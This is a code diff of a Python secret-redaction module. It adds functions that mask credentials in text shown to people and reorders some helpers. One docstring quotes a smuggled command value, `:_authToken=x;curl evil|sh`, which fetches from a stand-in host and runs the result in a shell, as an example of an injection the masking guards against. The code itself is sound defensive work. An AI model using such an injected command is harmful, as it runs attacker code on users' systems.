@@ -171,6 +171,53 @@ def is_allowed(lines: Sequence[str], index: int) -> bool:
     return bool(ALLOWED.search(lines[index]) or ("nextline" in above and ALLOWED.search(above)))
 
 
+def mark(kind: str) -> str:
+    return f"[secret: {kind} removed]"
+
+
+def _without(hit: re.Match[str], kind: str) -> str:
+    start, end = (at - hit.start() for at in hit.span("secret"))
+    return hit[0][:start] + mark(kind) + hit[0][end:]
+
+
+def _dresses(value: str) -> Iterator[str]:
+    """The value itself, and its encodings in JSON, URLs and base64."""
+    yield value
+    yield (once := json.dumps(value)[1:-1])
+    yield json.dumps(value, ensure_ascii=False)[1:-1]
+    # JSON inside of JSON, as agents print what a tool returned
+    yield json.dumps(once)[1:-1]
+    yield quote(value, safe="")
+    yield quote_plus(value)
+    for lead in ("", " ", "  "):
+        # where in its group of three a value starts decides its letters; those at the edges mix with the neighbours'
+        base64_text = base64.b64encode(f"{lead}{value}".encode(errors="surrogateescape")).decode().rstrip("=")
+        inner = (base64_text[4:] if lead else base64_text)[:-2]
+        if len(inner) >= 16:
+            yield from {inner, inner.replace("+", "-").replace("/", "_")}
+
+
+def _values_of(name: str, value: str) -> Iterator[str]:
+    """The secret part of a variable, if it has one."""
+    if "://" in value:
+        try:
+            password = urlsplit(value).password or ""
+        except ValueError:
+            return
+        if len(password) >= 8 and not _NO_VALUE.fullmatch(password):
+            yield password
+        return
+    if not _NAME.search(name) or _NO_NAME.search(name) or len(value) < 8:
+        return
+    if not _NO_VALUE.fullmatch(value) and len(set(value)) >= 4:
+        yield value
+
+
+def _ordered(text: str, hits: Iterable[tuple[int, str]]) -> list[Leak]:
+    leaks = {Leak(text.count("\n", 0, at) + 1, kind) for at, kind in hits}
+    return sorted(leaks, key=lambda leak: (leak.line, leak.kind))
+
+
 # Shapes alone, for those who know no values.
 NO_SECRETS = Secrets()
 
@@ -227,48 +274,39 @@ def redact_behind(secrets: Secrets, before: str, line: str) -> str:
     return line
 
 
-def _ordered(text: str, hits: Iterable[tuple[int, str]]) -> list[Leak]:
-    leaks = {Leak(text.count("\n", 0, at) + 1, kind) for at, kind in hits}
-    return sorted(leaks, key=lambda leak: (leak.line, leak.kind))
+# -- masking --------------------------------------------------------------------------------------
+# Secrets masked in text that a person is asked to accept: nothing else may disappear behind a mask.
+
+# what tokens and keys are made of: no space, quote, `;`, `$` or control character, with which a command could begin
+_TOKEN = re.compile(r"(?![/.~])[A-Za-z0-9_+/=.:~-]+")
+_KEY_LINES = re.compile(r"-----BEGIN [A-Z0-9 ]+-----[A-Za-z0-9+/=\s]*(?:-----END [A-Z0-9 ]+-----)?")
+_OF_ENVIRONMENT = "value of "
 
 
-def mark(kind: str) -> str:
-    return f"[secret: {kind} removed]"
+def mask(secrets: Secrets, text: str) -> str:
+    """The text with each secret replaced by its kind and length. What only looks like one is shown whole.
+
+    The author of a repository can write `:_authToken=x;curl evil|sh`, but not a value of the reader's environment.
+    """
+    for start, end, kind in reversed(secrets.spans(text)):
+        value = text[start:end]
+        if kind.startswith(_OF_ENVIRONMENT) or _is_token(value):
+            text = f"{text[:start]}[secret: {kind}, {end - start} characters not shown]{text[end:]}"
+    return text
 
 
-def _without(hit: re.Match[str], kind: str) -> str:
-    start, end = (at - hit.start() for at in hit.span("secret"))
-    return hit[0][:start] + mark(kind) + hit[0][end:]
+def mask_all(secrets: Secrets, value: Any) -> Any:
+    """Every text inside of lists and mappings."""
+    if isinstance(value, str):
+        return mask(secrets, value)
+    if isinstance(value, Mapping):
+        return {mask_all(secrets, key): mask_all(secrets, one) for key, one in value.items()}
+    if isinstance(value, list | tuple):
+        return [mask_all(secrets, one) for one in value]
+    return value
 
 
-def _values_of(name: str, value: str) -> Iterator[str]:
-    """The secret part of a variable, if it has one."""
-    if "://" in value:
-        try:
-            password = urlsplit(value).password or ""
-        except ValueError:
-            return
-        if len(password) >= 8 and not _NO_VALUE.fullmatch(password):
-            yield password
-        return
-    if not _NAME.search(name) or _NO_NAME.search(name) or len(value) < 8:
-        return
-    if not _NO_VALUE.fullmatch(value) and len(set(value)) >= 4:
-        yield value
-
-
-def _dresses(value: str) -> Iterator[str]:
-    """The value itself, and its encodings in JSON, URLs and base64."""
-    yield value
-    yield (once := json.dumps(value)[1:-1])
-    yield json.dumps(value, ensure_ascii=False)[1:-1]
-    # JSON inside of JSON, as agents print what a tool returned
-    yield json.dumps(once)[1:-1]
-    yield quote(value, safe="")
-    yield quote_plus(value)
-    for lead in ("", " ", "  "):
-        # where in its group of three a value starts decides its letters; those at the edges mix with the neighbours'
-        base64_text = base64.b64encode(f"{lead}{value}".encode(errors="surrogateescape")).decode().rstrip("=")
-        inner = (base64_text[4:] if lead else base64_text)[:-2]
-        if len(inner) >= 16:
-            yield from {inner, inner.replace("+", "-").replace("/", "_")}
+def _is_token(value: str) -> bool:
+    if "/../" in value or "//" in value:
+        return False
+    return bool(_TOKEN.fullmatch(value) or _KEY_LINES.fullmatch(value))
